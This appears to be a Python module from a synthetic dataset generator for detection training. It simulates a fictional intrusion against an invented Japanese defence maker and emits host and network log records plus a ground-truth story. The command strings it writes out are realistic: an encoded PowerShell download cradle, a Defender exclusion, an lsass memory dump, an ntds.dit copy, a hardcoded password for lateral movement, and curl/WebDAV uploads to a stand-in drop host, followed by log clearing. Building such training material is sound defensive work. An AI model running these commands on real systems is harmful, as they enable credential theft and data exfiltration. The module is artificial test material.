# SPDX-License-Identifier: Apache-2.0
"""The planted intrusion, step by step, and its story. Techniques many groups share; it is made to point at none of them."""
import base64
from datetime import timedelta

from machine import DNS_DOMAIN, S32, SYSTEM
from office import OFFICE, PS, RUN, lookup, tls
from tape import at

LURE = "docs.mitsumori-kyoyu.example", "203.0.113.77"
CONTROL = "kyosync-update.example", "203.0.113.85"
DROP = "dav.hokan-bako.example", "198.51.100.44"
IMPLANT = "C:\\Users\\Public\\Libraries\\kyosync.exe"
STAGE = "C:\\ProgramData\\Intel\\Logs\\"

SCENARIO = {
    "victim": "Yamatake Kakuu Seisakusho K.K. (invented), maker of defence equipment, Japan",
    "sector": "defence", "country": "JP",
    "from": "2026-02-04T15:00:00.000Z", "to": "2026-02-07T15:00:00.000Z", "local_time": "Asia/Tokyo (UTC+09:00)",
    "actor": None,
    "actor_note": "Invented and modelled on no group. The right answer to 'who' is that the evidence does not say.",
    "aims": ["ip-theft"],
}


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def unfold(tape, site):
    shell = first_foothold(tape, site)
    beacons(tape, site)
    look_around(tape, site, shell)
    take_credentials(tape, site, shell)
    second_workstation(tape, site, site.shells["implant", "YT-ENG07", "02-06"])
    servers(tape, site)
    drawings(tape, site)
    out_and_away(tape, site)


def run(tape, m, t, parent, command, image=None, lasts=2, **more):
    """cmd /c COMMAND from a process that gives orders, and the program it starts."""
    wrapper = m.start(t, S32 + "cmd.exe", f"C:\\Windows\\system32\\cmd.exe /c {command}", parent, lasts=lasts, **more)
    if image:
        return m.start(t + timedelta(milliseconds=120), S32 + image, command, wrapper, lasts=lasts)
    return wrapper


# Thursday

def first_foothold(tape, site):
    m, who = site.eng07, site.kagami
    explorer = site.shells["YT-ENG07", "02-05"]
    cache = f"C:\\Users\\{who.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7XQ2K1VD\\"
    document = cache + "見積依頼書_R8-0205.docm"
    t = at("02-05 09:36:12")
    with tape.step("S01", "02-05 09:36:12", "YT-WEB01", "A mail with a macro document arrives for t.kagami.",
                   ["T1566.001"], covered=False):
        tape.zeek("conn", t, {"uid": tape.uid(), "id_orig_h": "198.51.100.23", "id_orig_p": 41822, "id_resp_h": site.web.ip,
                              "id_resp_p": 25, "proto": "tcp", "service": "smtp", "duration": 2.31, "orig_bytes": 148_220,
                              "resp_bytes": 611, "conn_state": "SF", "local_orig": False, "local_resp": True})
    t = at("02-05 09:41:07")
    with tape.step("S02", "02-05 09:41:07", "YT-ENG07", "t.kagami opens the attachment in Word and enables its macro.",
                   ["T1566.001", "T1204.002"]):
        mail = m.start(t - timedelta(seconds=58), OFFICE + "OUTLOOK.EXE", f"\"{OFFICE}OUTLOOK.EXE\" /recycle", explorer)
        m.write_file(t - timedelta(seconds=2), mail, document)
        word = m.start(t, OFFICE + "WINWORD.EXE", f"\"{OFFICE}WINWORD.EXE\" /n \"{document}\" /o \"\"", mail, lasts=1500,
                       directory=cache)
    t += timedelta(seconds=19)
    with tape.step("S03", "02-05 09:41:26", "YT-ENG07", "The macro starts mshta with an address.",
                   ["T1059.005", "T1218.005"]):
        mshta = m.start(t, S32 + "mshta.exe", f"mshta.exe https://{LURE[0]}/r8/irai.hta", word, lasts=14)
        m.resolve(t + timedelta(seconds=1), mshta, *LURE)
        lookup(tape, m, t + timedelta(seconds=1), *LURE)
        m.connect(t + timedelta(seconds=1), mshta, LURE[1], 443, LURE[0])
        tls(tape, m, t + timedelta(seconds=1), *LURE, 1_204, 18_377, 1.1)
    t += timedelta(seconds=4)
    script = (f"$c=New-Object Net.WebClient;$c.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
              f"IEX $c.DownloadString('http://{LURE[0]}/r8/s2.txt')")
    with tape.step("S04", "02-05 09:41:30", "YT-ENG07", "mshta starts PowerShell, hidden and encoded; it runs a script from "
                   "the same server.", ["T1059.001", "T1027.010", "T1564.003"]):
        ps = m.start(t, PS, f"\"{PS}\" -nop -w hidden -ep bypass -enc {encoded(script)}", mshta, lasts=240)
        m.powershell(t + timedelta(seconds=1), ps, [script])
        lookup(tape, m, t + timedelta(seconds=2), *LURE)
        m.connect(t + timedelta(seconds=2), ps, LURE[1], 80, LURE[0])
        uid = tape.uid()
        ends = {"id_orig_h": m.ip, "id_orig_p": 50231, "id_resp_h": LURE[1], "id_resp_p": 80}
        tape.zeek("conn", t + timedelta(seconds=2), {"uid": uid, **ends, "proto": "tcp", "service": "http", "duration": 0.8,
                  "orig_bytes": 96, "resp_bytes": 22_118, "conn_state": "SF", "local_orig": True, "local_resp": False})
        tape.zeek("http", t + timedelta(seconds=2), {"uid": uid, **ends, "trans_depth": 1, "method": "GET", "host": LURE[0],
                  "uri": "/r8/s2.txt", "version": "1.1", "request_body_len": 0, "response_body_len": 22_118,
                  "status_code": 200, "status_msg": "OK", "resp_mime_types": ["text/plain"]})
    t += timedelta(seconds=22)
    fetch = f"(New-Object Net.WebClient).DownloadFile('http://{LURE[0]}/r8/kyosync.bin','{IMPLANT}')"
    with tape.step("S05", "02-05 09:41:52", "YT-ENG07", "PowerShell saves the implant kyosync.exe below C:\\Users\\Public.",
                   ["T1105", "T1036.005"]):
        m.powershell(t, ps, [fetch])
        m.write_file(t + timedelta(seconds=3), ps, IMPLANT)
    t += timedelta(seconds=8)
    with tape.step("S06", "02-05 09:42:00", "YT-ENG07", "PowerShell excludes the folder from the antimalware scan.",
                   ["T1562.001"]):
        m.powershell(t, ps, ["Add-MpPreference -ExclusionPath 'C:\\Users\\Public\\Libraries' -Force"])
        m.set_value(t + timedelta(seconds=2), m.system["svchost.exe"], "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions"
                    "\\Paths\\C:\\Users\\Public\\Libraries", "DWORD (0x00000000)")
    t += timedelta(seconds=6)
    with tape.step("S07", "02-05 09:42:06", "YT-ENG07", "PowerShell writes a Run value for the implant.", ["T1547.001"]):
        m.set_value(t, ps, "HKU\\" + who.sid + RUN + "KyoyuSync", f"\"{IMPLANT}\" /min")
    with tape.step("S08", "02-05 09:42:09", "YT-ENG07", "The implant runs and calls home over HTTPS, every ten minutes "
                   "or so wherever it runs, until Saturday morning.", ["T1071.001"]):
        implant = m.start(t + timedelta(seconds=3), IMPLANT, f"\"{IMPLANT}\" /min", ps, integrity="High",
                          directory="C:\\Users\\Public\\Libraries\\")
        m.resolve(t + timedelta(seconds=5), implant, *CONTROL)
    site.shells["implant", "YT-ENG07"] = implant
    return implant


def beacons(tape, site):
    """The implant comes back with Friday's logon; wherever it runs it calls home, as the host and the sensor see it."""
    m = site.eng07
    begin, _ = site.hours["YT-ENG07", "02-06"]
    with tape.step("S15", begin + timedelta(seconds=19), "YT-ENG07", "Friday's logon starts the implant from its Run value.",
                   ["T1547.001"]):
        friday = m.start(begin + timedelta(seconds=19), IMPLANT, f"\"{IMPLANT}\" /min", site.shells["YT-ENG07", "02-06"])
        m.resolve(begin + timedelta(seconds=21), friday, *CONTROL)
    site.shells["implant", "YT-ENG07", "02-06"] = friday
    call_home(tape, m, site.shells["implant", "YT-ENG07"], at("02-05 09:42:14"), site.hours["YT-ENG07", "02-05"][1])
    call_home(tape, m, friday, begin + timedelta(seconds=22), site.hours["YT-ENG07", "02-06"][1])


def call_home(tape, m, implant, t, last):
    with tape.more_of("S08"):
        while t < last:
            lookup(tape, m, t, *CONTROL)
            if tape.chance(0.35):
                m.connect(t, implant, CONTROL[1], 443, CONTROL[0])
            tls(tape, m, t, *CONTROL, tape.random.randrange(700, 1_100), tape.random.randrange(400, 700), 0.4)
            t += timedelta(seconds=tape.random.uniform(540, 700))
        m.end(last, implant)


def look_around(tape, site, implant):
    m = site.eng07
    orders = (
        ("S09", "10:18:02", "Who am I, with which rights?", ["T1033"], (("whoami /all", "whoami.exe"),)),
        ("S10", "10:18:20", "What machine is this, what runs on it, what is it connected to?",
         ["T1082", "T1057", "T1016", "T1049"],
         (("systeminfo", "systeminfo.exe"), ("tasklist /v", "tasklist.exe"), ("ipconfig /all", "ipconfig.exe"),
          ("netstat -ano", "netstat.exe"))),
        ("S11", "10:21:40", "Who administers the domain, which domains are trusted?", ["T1069.002", "T1087.002", "T1482"],
         (('net group "Domain Admins" /domain', "net.exe"), ("net user /domain", "net.exe"),
          ("nltest /domain_trusts /all_trusts", "nltest.exe"))),
        ("S12", "10:24:09", "Which machines and shares are there?", ["T1018", "T1135"],
         (("nltest /dclist:" + DNS_DOMAIN, "nltest.exe"), ("net view /domain", "net.exe"),
          ("net view \\\\YT-FS01 /all", "net.exe"))),
    )
    for step, clock, what, techniques, commands in orders:
        with tape.step(step, "02-05 " + clock, "YT-ENG07", what, techniques):
            for i, (command, image) in enumerate(commands):
                run(tape, m, at("02-05 " + clock) + timedelta(seconds=9 * i), implant, command, image)


def take_credentials(tape, site, implant):
    m = site.eng07
    t = at("02-05 16:10:30")
    dump = "C:\\Users\\Public\\Libraries\\kys.tmp"
    with tape.step("S13", "02-05 16:10:30", "YT-ENG07", "rundll32 writes the memory of lsass with comsvcs.dll, after the "
                   "administrator's session of the afternoon.", ["T1003.001", "T1218.011"]):
        wrapper = run(tape, m, t, implant, f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {m.system['lsass.exe'].pid} {dump} full")
        dumper = m.start(t + timedelta(milliseconds=150), S32 + "rundll32.exe",
                         f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {m.system['lsass.exe'].pid} {dump} full", wrapper, lasts=3)
        m.access(t + timedelta(seconds=1), dumper, m.system["lsass.exe"], "0x1fffff",
                 "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                 "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f2a|C:\\Windows\\System32\\comsvcs.dll+1a8f4")
        m.write_file(t + timedelta(seconds=1), dumper, dump)
    with tape.step("S14", "02-05 16:25:44", "YT-ENG07", "The dump is deleted after it was taken away.", ["T1070.004"],
                   covered=False):
        eraser = run(tape, m, at("02-05 16:25:44"), implant, f"del /f /q {dump}")
        m.delete_file(at("02-05 16:25:44"), eraser, dump)


# Friday

def second_workstation(tape, site, implant):
    m, target, who = site.eng07, site.eng12, site.sakuma
    t = at("02-06 11:28:50")
    with tape.step("S16", "02-06 11:28:50", "YT-ENG12", "With the stolen account adm-sakuma the implant is copied to the "
                   "second workstation's administrative share.", ["T1078.002", "T1021.002", "T1570"]):
        run(tape, m, t, implant, f"net use \\\\YT-ENG12\\C$ /user:YAMATAKE\\{who.name} Natsu-no-Sakura-26", "net.exe")
        logon = target.logon(t + timedelta(seconds=1), who, 3, m.ip, lasts=600)
        site.dc.ticket(t + timedelta(seconds=1), who, "YT-ENG12$", m.ip)
        target.share(t + timedelta(seconds=1), who, logon, m.ip, "C$", "C:\\")
        run(tape, m, t + timedelta(seconds=8), implant,
            f"copy {IMPLANT} \\\\YT-ENG12\\C$\\Users\\Public\\Libraries\\kyosync.exe")
        target.share(t + timedelta(seconds=9), who, logon, m.ip, "C$", "C:\\", "Users\\Public\\Libraries\\kyosync.exe", "0x2")
        kernel = target.system["services.exe"]
        target.write_file(t + timedelta(seconds=9), kernel.__class__(target, 4, kernel.guid, "System", "", SYSTEM, "0x3e7"), IMPLANT)
    t = at("02-06 11:31:04")
    with tape.step("S17", "02-06 11:31:04", "YT-ENG12", "WMI starts the implant on the second workstation.",
                   ["T1047", "T1078.002"]):
        run(tape, m, t, implant, f"wmic /node:YT-ENG12 process call create \"cmd.exe /c start {IMPLANT} /min\"",
            "wbem\\WMIC.exe", lasts=4)
        logon = target.logon(t + timedelta(seconds=2), who, 3, m.ip)
        host = target.start(t + timedelta(seconds=1), S32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe "
                            "-secured -Embedding", target.system["svchost.exe"])
        wrapper = target.start(t + timedelta(seconds=2), S32 + "cmd.exe", f"cmd.exe /c start {IMPLANT} /min", host, who, logon, 2,
                               "High")
        second = target.start(t + timedelta(seconds=3), IMPLANT, f"{IMPLANT} /min", wrapper)
        target.resolve(t + timedelta(seconds=5), second, *CONTROL)
        lookup(tape, target, t + timedelta(seconds=5), *CONTROL)
        target.connect(t + timedelta(seconds=5), second, CONTROL[1], 443, CONTROL[0])
        tls(tape, target, t + timedelta(seconds=5), *CONTROL, 1_020, 610, 0.5)
    t = at("02-06 11:36:20")
    name = "\\Microsoft\\Windows\\Maintenance\\KyoyuSync"
    with tape.step("S18", "02-06 11:36:20", "YT-ENG12", "A scheduled task keeps the implant alive as SYSTEM.",
                   ["T1053.005", "T1036.004"]):
        run(tape, target, t, second, f"schtasks /create /tn {name[1:]} /tr \"{IMPLANT} /min\" /sc onlogon /ru SYSTEM /f",
            "schtasks.exe")
        target.windows_task_created(t + timedelta(seconds=1), who, second.logon_id, name, IMPLANT)
        target.task(t + timedelta(seconds=1), 106, name, {"UserContext": f"YAMATAKE\\{who.name}"},
                    f"User \"YAMATAKE\\{who.name}\"  registered Task Scheduler task \"{name}\"")
    t = at("02-06 20:47:10")
    with tape.step("S19", "02-06 20:47:10", "YT-ENG12", "After hours Remote Desktop is switched on and let through the firewall.",
                   ["T1112", "T1562.004", "T1021.001"]):
        run(tape, target, t, second, "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v "
            "fDenyTSConnections /t REG_DWORD /d 0 /f", "reg.exe")
        target.set_value(t + timedelta(seconds=1), target.system["services.exe"], "HKLM\\System\\CurrentControlSet\\Control\\"
                         "Terminal Server\\fDenyTSConnections", "DWORD (0x00000000)")
        run(tape, target, t + timedelta(seconds=12), second, "netsh advfirewall firewall add rule name=\"Remote Desktop (TCP-In)\" "
            "dir=in action=allow protocol=TCP localport=3389", "netsh.exe")
    t = at("02-06 20:51:50")
    with tape.step("S20", "02-06 20:51:50", "YT-ENG12", "adm-sakuma logs on to the second workstation over Remote Desktop, through "
                   "a tunnel of the implant: the address is the machine's own.", ["T1572", "T1021.001"]):
        logon = target.logon(t, who, 10, "127.0.0.1", target.name, lasts=31000)
        userinit = target.start(t + timedelta(seconds=2), S32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe",
                                target.system["winlogon.exe"], who, logon, 20, "High")
        desk = target.start(t + timedelta(seconds=3), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", userinit)
    with tape.step("S21", "02-06 20:55:31", "YT-JMP01", "adm-sakuma, from the second workstation, over Remote Desktop to the jump "
                   "host.", ["T1021.001", "T1078.002"], covered=False):
        t = at("02-06 20:55:31")
        site.dc.ticket(t, who, "YT-JMP01$", target.ip)
        client = target.start(t - timedelta(seconds=4), S32 + "mstsc.exe", f"\"{S32}mstsc.exe\" /v:YT-JMP01", desk, lasts=30000)
        target.connect(t - timedelta(seconds=1), client, site.jump.ip, 3389, site.jump.fqdn)
        jump = site.jump
        logon = jump.logon(t, who, 10, target.ip, target.name, lasts=30000)
        userinit = jump.start(t + timedelta(seconds=9), S32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe",
                              jump.system["winlogon.exe"], who, logon, 20, "High")
        shell = jump.start(t + timedelta(seconds=10), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", userinit)
        site.shells["intruder"] = jump.start(t + timedelta(seconds=79), S32 + "cmd.exe", f"\"{S32}cmd.exe\"", shell)
        site.shells["intruder logon"] = logon
    call_home(tape, target, second, at("02-06 11:41:00"), at("02-07 05:10:00"))


def servers(tape, site):
    jump, dc, fs, who = site.jump, site.dc, site.fs, site.sakuma
    console = site.shells["intruder"]
    t = at("02-06 21:14:02")
    folder = "C:\\Windows\\Temp\\nt0206"
    command = f"ntdsutil \"ac i ntds\" ifm \"create full {folder}\" q q"
    with tape.step("S22", "02-06 21:14:02", "YT-DC01", "Through WMI, ntdsutil copies the directory database on the domain "
                   "controller.", ["T1003.003", "T1047"]):
        jump.start(t, S32 + "wbem\\WMIC.exe", f"wmic /node:YT-DC01 process call create \"cmd /c {command}\"", console, lasts=3)
        logon = dc.logon(t + timedelta(seconds=1), who, 3, jump.ip, lasts=120)
        host = dc.start(t + timedelta(seconds=1), S32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured "
                        "-Embedding", dc.system["svchost.exe"])
        wrapper = dc.start(t + timedelta(seconds=2), S32 + "cmd.exe", f"cmd /c {command}", host, who, logon, 40, "High")
        tool = dc.start(t + timedelta(seconds=2), S32 + "ntdsutil.exe", command, wrapper, lasts=38)
        dc.write_file(t + timedelta(seconds=30), tool, folder + "\\Active Directory\\ntds.dit")
        dc.write_file(t + timedelta(seconds=33), tool, folder + "\\registry\\SYSTEM")
    t = at("02-06 21:52:17")
    with tape.step("S23", "02-06 21:52:17", "YT-FS01", "A service that starts the implant is made on the file server from afar.",
                   ["T1543.003", "T1569.002", "T1021.002"]):
        run(tape, jump, t - timedelta(seconds=9), console, f"copy \\\\YT-ENG12\\C$\\Users\\Public\\Libraries\\kyosync.exe "
            "\\\\YT-FS01\\C$\\ProgramData\\Intel\\kyosync.exe")
        logon = fs.logon(t - timedelta(seconds=8), who, 3, jump.ip, lasts=900)
        fs.share(t - timedelta(seconds=8), who, logon, jump.ip, "C$", "C:\\", "ProgramData\\Intel\\kyosync.exe", "0x2")
        jump.start(t, S32 + "sc.exe", "sc \\\\YT-FS01 create KyoyuSyncSvc binPath= \"C:\\ProgramData\\Intel\\kyosync.exe /svc\" "
                   "start= auto", console, lasts=1)
        fs.service_installed(t + timedelta(seconds=1), "KyoyuSyncSvc", "C:\\ProgramData\\Intel\\kyosync.exe /svc", who, "auto start")
        fs.set_value(t + timedelta(seconds=1), fs.system["services.exe"],
                     "HKLM\\System\\CurrentControlSet\\Services\\KyoyuSyncSvc\\ImagePath", "C:\\ProgramData\\Intel\\kyosync.exe /svc")
        jump.start(t + timedelta(seconds=14), S32 + "sc.exe", "sc \\\\YT-FS01 start KyoyuSyncSvc", console, lasts=1)
        service = fs.start(t + timedelta(seconds=15), "C:\\ProgramData\\Intel\\kyosync.exe", "C:\\ProgramData\\Intel\\kyosync.exe /svc",
                           fs.system["services.exe"])
        fs.service_state(t + timedelta(seconds=16), "KyoyuSyncSvc", "running")
    site.shells["service"] = service


# Saturday, while nobody is there

def drawings(tape, site):
    fs, service = site.fs, site.shells["service"]
    t = at("02-07 01:12:40")
    with tape.step("S24", "02-07 01:12:40", "YT-FS01", "The drawings are listed by their extensions.", ["T1083", "T1119"],
                   aims=["ip-theft"]):
        run(tape, fs, t, service, f"dir /s /b D:\\Sekkei\\*.dwg D:\\Sekkei\\*.sldprt D:\\Sekkei\\*.step > {STAGE}l.txt", lasts=20)
        fs.write_file(t + timedelta(seconds=1), service, STAGE + "l.txt")
    t = at("02-07 01:31:05")
    with tape.step("S25", "02-07 01:31:05", "YT-FS01", "A renamed rar packs the drawings with a password, in volumes, into a "
                   "folder that looks like a driver's.", ["T1560.001", "T1074.001", "T1036.003", "T1005"], aims=["ip-theft"]):
        command = (f"{STAGE}igfxlog.exe a -r -v200m -m1 -hpK9x!2026Fuyu {STAGE}igfx.dat D:\\Sekkei\\*.dwg D:\\Sekkei\\*.sldprt "
                   "D:\\Sekkei\\*.sldasm D:\\Sekkei\\*.step")
        fs.write_file(t - timedelta(seconds=40), service, STAGE + "igfxlog.exe")
        packer = fs.start(t, STAGE + "igfxlog.exe", command, service, lasts=1460, original="rar.exe")
        for part in range(1, 6):
            fs.write_file(t + timedelta(seconds=1 + 280 * (part - 1)), packer, f"{STAGE}igfx.part{part}.dat")


def out_and_away(tape, site):
    jump, fs, who, console = site.jump, site.fs, site.sakuma, site.shells["intruder"]
    t = at("02-07 02:20:10")
    with tape.step("S26", "02-07 02:20:10", "YT-JMP01", "The volumes are gathered on the jump host, which may reach the Internet.",
                   ["T1074.002", "T1039"], aims=["ip-theft"]):
        logon = fs.logon(t, who, 3, jump.ip, lasts=800)
        copier = jump.start(t, S32 + "robocopy.exe", "robocopy \\\\YT-FS01\\C$\\ProgramData\\Intel\\Logs C:\\ProgramData\\Intel\\Logs "
                            "igfx.part*.dat", console, lasts=700)
        for part in range(1, 6):
            fs.share(t + timedelta(seconds=120 * part), who, logon, jump.ip, "C$", "C:\\",
                     f"ProgramData\\Intel\\Logs\\igfx.part{part}.dat")
            jump.write_file(t + timedelta(seconds=120 * part), copier, f"{STAGE}igfx.part{part}.dat")
    t = at("02-07 02:36:00")
    with tape.step("S27", "02-07 02:36:00", "YT-JMP01", "A first small file goes out over WebDAV without encryption, to try the way.",
                   ["T1048.003"], aims=["ip-theft"]):
        mapper = run(tape, jump, t, console, f"net use W: http://{DROP[0]}/k9", "net.exe")
        del mapper
        jump.start(t + timedelta(seconds=2), S32 + "rundll32.exe", f"rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie "
                   f"{DROP[0]} http://{DROP[0]}/k9", jump.system["svchost.exe"], lasts=2)
        lookup(tape, jump, t + timedelta(seconds=1), *DROP)
        uid = tape.uid()
        ends = {"id_orig_h": jump.ip, "id_orig_p": 52114, "id_resp_h": DROP[1], "id_resp_p": 80}
        tape.zeek("conn", t + timedelta(seconds=3), {"uid": uid, **ends, "proto": "tcp", "service": "http", "duration": 9.6,
                  "orig_bytes": 41_877, "resp_bytes": 2_220, "conn_state": "SF", "local_orig": True, "local_resp": False})
        for i, (method, uri, size, status) in enumerate((("OPTIONS", "/k9", 0, 200), ("PROPFIND", "/k9", 0, 207),
                                                         ("PUT", "/k9/l.txt", 38_912, 201))):
            tape.zeek("http", t + timedelta(seconds=3 + i), {"uid": uid, **ends, "trans_depth": i + 1, "method": method,
                      "host": DROP[0], "uri": uri, "version": "1.1", "user_agent": "Microsoft-WebDAV-MiniRedir/10.0.20348",
                      "request_body_len": size, "response_body_len": 320, "status_code": status, "status_msg": "OK"})
    t = at("02-07 02:44:30")
    with tape.step("S28", "02-07 02:44:30", "YT-JMP01", "Five volumes go out with curl over HTTPS, 950 MB in all.",
                   ["T1048.002", "T1567.002"], aims=["ip-theft"]):
        for part in range(1, 6):
            u = t + timedelta(seconds=560 * (part - 1))
            size = 209_715_200 if part < 5 else 157_321_410
            upload = jump.start(u, S32 + "curl.exe", f"curl.exe -s -k -T {STAGE}igfx.part{part}.dat https://{DROP[0]}/k9/", console,
                                lasts=520)
            jump.resolve(u + timedelta(seconds=1), upload, *DROP)
            lookup(tape, jump, u + timedelta(seconds=1), *DROP)
            jump.connect(u + timedelta(seconds=1), upload, DROP[1], 443, DROP[0])
            tls(tape, jump, u + timedelta(seconds=1), *DROP, size + 2_411_008, 61_200, 512.4)
    t = at("02-07 03:40:02")
    with tape.step("S29", "02-07 03:40:02", "YT-FS01", "Archives, list and tool are deleted, the service is removed.", ["T1070.004"],
                   covered=False):
        service = site.shells["service"]
        eraser = run(tape, fs, t, service, f"del /f /q {STAGE}*.*")
        for name in ("l.txt", "igfxlog.exe", *(f"igfx.part{part}.dat" for part in range(1, 6))):
            fs.delete_file(t + timedelta(milliseconds=300), eraser, STAGE + name)
        jump.start(t + timedelta(seconds=30), S32 + "sc.exe", "sc \\\\YT-FS01 delete KyoyuSyncSvc", console, lasts=1)
    t = at("02-07 03:52:47")
    with tape.step("S30", "02-07 03:52:47", "YT-JMP01", "The Security and System logs of the jump host are cleared; the copies at the "
                   "collector remain.", ["T1070.001"]):
        jump.start(t, S32 + "wevtutil.exe", "wevtutil cl Security", console, lasts=1)
        jump.log_cleared(t + timedelta(milliseconds=400), "Security", who, site.shells["intruder logon"])
        jump.start(t + timedelta(seconds=5), S32 + "wevtutil.exe", "wevtutil cl System", console, lasts=1)
        jump.log_cleared(t + timedelta(seconds=5, milliseconds=400), "System", who, site.shells["intruder logon"])


def story(truth):
    lines = [
        "# What really happened (all of it invented)", "",
        "Written by `samples/generate.py`; the same facts for machines are in TRUTH.json, with every record of every step.", "",
        f"Victim: {SCENARIO['victim']}. {SCENARIO['actor_note']}", "",
        f"Records: {truth['counts']['records']}, of which {truth['counts']['planted']} belong to the intrusion and "
        f"{truth['counts']['near_misses']} are benign near misses.", "",
        "| step | UTC | host | what | techniques | records | starter rule |", "|---|---|---|---|---|---|---|"]
    for s in truth["steps"]:
        lines.append(f"| {s['id']} | {s['time'][:19].replace('T', ' ')} | {s['host']} | {s['what']} | {', '.join(s['techniques'])} | "
                     f"{len(s['records'])} | {'yes' if s['covered_by_starter_rules'] else 'none'} |")
    lines += ["", "## Benign near misses", "", "| what | would tempt a careless rule for | records |", "|---|---|---|"]
    merged = {}
    for n in truth["near_misses"]:
        key = n["what"], ", ".join(n["tempts_rules_for"])
        merged[key] = merged.get(key, 0) + len(n["records"])
    lines += [f"| {what} | {tempts} | {count} |" for (what, tempts), count in merged.items()]
    return "\n".join(lines) + "\n"
